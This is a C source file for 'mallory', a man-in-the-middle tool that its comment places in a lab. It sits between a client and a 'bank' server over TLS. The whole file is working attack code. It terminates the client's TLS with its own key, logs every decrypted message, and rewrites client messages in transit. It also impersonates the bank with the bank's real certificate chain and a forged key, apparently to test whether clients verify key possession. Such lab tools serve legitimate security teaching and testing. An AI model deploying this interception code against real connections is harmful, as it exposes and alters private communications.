/*
 * mallory: an attacker's tool for the lab, who stands between a client and a bank. Waits at ports of this box and calls the same
 * ports at the bank. It knows no key of anybody's, and says what it read.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <openssl/bn.h>
#include <openssl/core_names.h>
#include <openssl/evp.h>
#include <openssl/param_build.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "options.h"
#include "unbound/anybody.h"

static const char help[] =
    "usage: mallory --to ADDRESS [--forward PORT] [--unwrap PORT [--rewrite OLD=NEW]] [--impersonate PORT]\n"
    "Stands between a client and the bank at ADDRESS.\n"
    "PORT is the bank's; HERE:PORT if this box waits at another.\n\n"
    "  --forward PORT      passes everything on as it is; may be given several times\n"
    "  --unwrap PORT       ends the client's TLS here, with a key of its own, and begins another with the bank\n"
    "  --rewrite OLD=NEW   changes what the client says on the way\n"
    "  --impersonate PORT  shows the bank's certificates, which anybody can ask it for, without having its key\n";

enum { PORTS_LIMIT = 8, MESSAGE_LIMIT = 128, CHUNK = 16384, POINT_LIMIT = 160 };

static const char *bank_address, *rewrite;

__attribute__((format(printf, 1, 2))) static void say(const char *format, ...) {
  char line[512];
  va_list arguments;
  va_start(arguments, format);
  int length = vsnprintf(line, sizeof line - 1, format, arguments);
  va_end(arguments);
  if (length > (int)sizeof line - 2) length = (int)sizeof line - 2;
  line[length] = '\n';
  ssize_t ignored = write(STDOUT_FILENO, line, (size_t)length + 1);
  (void)ignored;
}

__attribute__((noreturn)) static void die(const char *what) {
  fprintf(stderr, "mallory: %s: %s\n", what, strerror(errno));
  exit(EXIT_DEVICE);
}

static struct sockaddr_in at(const char *address, int port) {
  struct sockaddr_in where = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
  if (address && inet_pton(AF_INET, address, &where.sin_addr) != 1) {
    fprintf(stderr, "mallory: '%s' is no address\n", address);
    exit(EXIT_USAGE);
  }
  return where;
}

static int call_bank(int port) {
  struct sockaddr_in bank = at(bank_address, port);
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0 || connect(fd, (struct sockaddr *)&bank, sizeof bank) != 0) die("cannot reach the bank");
  return fd;
}

static int pass(int from, int to, size_t *count) {
  static uint8_t bytes[CHUNK];
  ssize_t length = read(from, bytes, sizeof bytes);
  if (length <= 0) return 0;
  *count += (size_t)length;
  for (ssize_t sent = 0; sent < length;) {
    ssize_t now = write(to, bytes + sent, (size_t)(length - sent));
    if (now <= 0) return 0;
    sent += now;
  }
  return 1;
}

static void forward(int client, int port) {
  int bank = call_bank(port);
  struct pollfd ends[2] = {{.fd = client, .events = POLLIN}, {.fd = bank, .events = POLLIN}};
  size_t counts[2] = {0, 0};
  while (poll(ends, 2, -1) > 0) {
    if (ends[0].revents && !pass(client, bank, &counts[0])) break;
    if (ends[1].revents && !pass(bank, client, &counts[1])) break;
  }
  say("port %d: passed on %zu bytes to the bank and %zu back", port, counts[0], counts[1]);
}

/* Replaces OLD by NEW in a message, if it stays as long as a message is. */
static void change(char message[MESSAGE_LIMIT + 1]) {
  const char *equals = rewrite ? strchr(rewrite, '=') : 0;
  if (!equals) return;
  char old[MESSAGE_LIMIT + 1], changed[2 * MESSAGE_LIMIT];
  snprintf(old, sizeof old, "%.*s", (int)(equals - rewrite), rewrite);
  char *found = old[0] ? strstr(message, old) : 0;
  if (!found) return;
  int length = snprintf(changed, sizeof changed, "%.*s%s%s", (int)(found - message), message, equals + 1,
                        found + strlen(old));
  if (length >= MESSAGE_LIMIT) return;
  memset(message, 0, MESSAGE_LIMIT + 1);
  memcpy(message, changed, (size_t)length);
  say("changed: %s", message);
}

static int relay(SSL *from, SSL *to, const char *whose) {
  char message[MESSAGE_LIMIT + 1] = {0};
  int length = SSL_read(from, message, MESSAGE_LIMIT);
  if (length <= 0) return 0;
  message[length] = 0;
  say("%s: %s", whose, message);
  if (whose[0] == 'c') change(message);
  return SSL_write(to, message, length) == length;
}

static void unwrap(int client_fd, int port) {
  SSL_CTX *as_bank = anybody_server(), *as_client = anybody_client();
  if (!as_bank || !as_client) die("no TLS");
  SSL *client = anybody_shake(as_bank, client_fd, 1);
  if (!client) {
    say("port %d: the client does not take my certificate", port);
    return;
  }
  int bank_fd = call_bank(port);
  SSL *bank = anybody_shake(as_client, bank_fd, 0);
  if (!bank) {
    say("port %d: the bank does not take me for its client", port);
    return;
  }
  say("port %d: I am in the middle", port);
  struct pollfd ends[2] = {{.fd = client_fd, .events = POLLIN}, {.fd = bank_fd, .events = POLLIN}};
  for (;;) {
    int waiting = SSL_pending(client) > 0 ? 1 : SSL_pending(bank) > 0 ? 2 : 0;
    if (!waiting && poll(ends, 2, -1) <= 0) break;
    if ((waiting == 1 || (!waiting && ends[0].revents)) && !relay(client, bank, "client")) break;
    if ((waiting == 2 || (!waiting && ends[1].revents)) && !relay(bank, client, "bank")) break;
  }
}

/* A key whose public half is in the certificate, as far as OpenSSL looks, and whose private half is mine. */
static EVP_PKEY *pretended_key(X509 *certificate) {
  unsigned char point[POINT_LIMIT];
  size_t length = 0;
  BIGNUM *private = 0;
  EVP_PKEY *mine = EVP_EC_gen("P-256"), *theirs = X509_get0_pubkey(certificate), *pretended = 0;
  OSSL_PARAM_BLD *parts = OSSL_PARAM_BLD_new();
  EVP_PKEY_CTX *maker = EVP_PKEY_CTX_new_from_name(0, "EC", 0);
  int good = mine && theirs && parts && maker &&
             EVP_PKEY_get_octet_string_param(theirs, OSSL_PKEY_PARAM_PUB_KEY, point, sizeof point, &length) == 1 &&
             EVP_PKEY_get_bn_param(mine, OSSL_PKEY_PARAM_PRIV_KEY, &private) == 1 &&
             OSSL_PARAM_BLD_push_utf8_string(parts, OSSL_PKEY_PARAM_GROUP_NAME, "P-256", 0) == 1 &&
             OSSL_PARAM_BLD_push_octet_string(parts, OSSL_PKEY_PARAM_PUB_KEY, point, length) == 1 &&
             OSSL_PARAM_BLD_push_BN(parts, OSSL_PKEY_PARAM_PRIV_KEY, private) == 1;
  OSSL_PARAM *whole = good ? OSSL_PARAM_BLD_to_param(parts) : 0;
  if (whole && EVP_PKEY_fromdata_init(maker) == 1) EVP_PKEY_fromdata(maker, &pretended, EVP_PKEY_KEYPAIR, whole);
  OSSL_PARAM_free(whole);
  OSSL_PARAM_BLD_free(parts);
  EVP_PKEY_CTX_free(maker);
  BN_free(private);
  EVP_PKEY_free(mine);
  return pretended;
}

/* The bank shows its certificates before it asks who calls. */
static SSL_CTX *steal(int port) {
  SSL_CTX *asking = anybody_client(), *showing = anybody_server();
  SSL *tls = asking ? SSL_new(asking) : 0;
  if (!tls || !showing || SSL_set_fd(tls, call_bank(port)) != 1) die("no TLS");
  SSL_connect(tls); /* fails, since the bank wants a certificate of ours; by then we have its own */
  STACK_OF(X509) *chain = SSL_get_peer_cert_chain(tls);
  int count = chain ? sk_X509_num(chain) : 0;
  EVP_PKEY *key = count > 0 ? pretended_key(sk_X509_value(chain, 0)) : 0;
  if (!key || SSL_CTX_use_certificate(showing, sk_X509_value(chain, 0)) != 1 ||
      SSL_CTX_use_PrivateKey(showing, key) != 1) {
    fputs("mallory: the bank showed no certificate that I can use\n", stderr);
    exit(EXIT_DEVICE);
  }
  for (int i = 1; i < count; i++) SSL_CTX_add1_chain_cert(showing, sk_X509_value(chain, i));
  say("port %d: the bank showed me its %d certificates", port, count);
  return showing;
}

static void impersonate(int client, int port) {
  SSL_CTX *showing = steal(port);
  SSL *tls = anybody_shake(showing, client, 1);
  say("port %d: the client %s", port, tls ? "takes me for the bank" : "found out that I do not have the key");
}

struct door {
  void (*serve)(int client, int port);
  struct option_list ports;
  const char *numbers[PORTS_LIMIT];
};

__attribute__((noreturn)) static void wait_at(void (*serve)(int, int), int here_port, int port) {
  struct sockaddr_in here = at(0, here_port);
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), yes = 1;
  if (fd < 0) die("socket");
  setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof yes);
  if (bind(fd, (struct sockaddr *)&here, sizeof here) != 0 || listen(fd, PORTS_LIMIT) != 0) die("listen");
  say("port %d: waiting", here_port);
  signal(SIGCHLD, SIG_IGN);
  for (;;) {
    int client = accept4(fd, 0, 0, SOCK_CLOEXEC);
    if (client < 0) continue;
    if (fork() == 0) {
      serve(client, port);
      _exit(0);
    }
    close(client);
  }
}

/* "4433", or "5433:4433". */
static void read_ports(const char *text, int *here, int *port) {
  const char *colon = strchr(text, ':');
  *here = atoi(text);
  *port = colon ? atoi(colon + 1) : *here;
  if (*here >= 1 && *here <= 65535 && *port >= 1 && *port <= 65535) return;
  fprintf(stderr, "mallory: '%s' is no port\n", text);
  exit(EXIT_USAGE);
}

int main(int argc, char **argv) {
  static struct door doors[] = {{.serve = forward}, {.serve = unwrap}, {.serve = impersonate}};
  for (size_t i = 0; i < 3; i++) doors[i].ports = (struct option_list){.items = doors[i].numbers, .limit = PORTS_LIMIT};
  options_read(argc, argv, help,
               (struct option_value[]){{.name = "--to", .text = &bank_address},
                                       {.name = "--rewrite", .text = &rewrite},
                                       {.name = "--forward", .list = &doors[0].ports},
                                       {.name = "--unwrap", .list = &doors[1].ports},
                                       {.name = "--impersonate", .list = &doors[2].ports},
                                       {0}},
               0);
  if (!bank_address) {
    fputs("mallory: --to ADDRESS is missing\n", stderr);
    return EXIT_USAGE;
  }
  signal(SIGPIPE, SIG_IGN);
  for (size_t i = 0; i < 3; i++) {
    for (int j = 0; j < doors[i].ports.count; j++) {
      int here, port;
      read_ports(doors[i].numbers[j], &here, &port);
      if (fork() != 0) continue;
      prctl(PR_SET_PDEATHSIG, SIGTERM);
      wait_at(doors[i].serve, here, port);
    }
  }
  while (wait(0) > 0) continue;
  return EXIT_DONE;
}
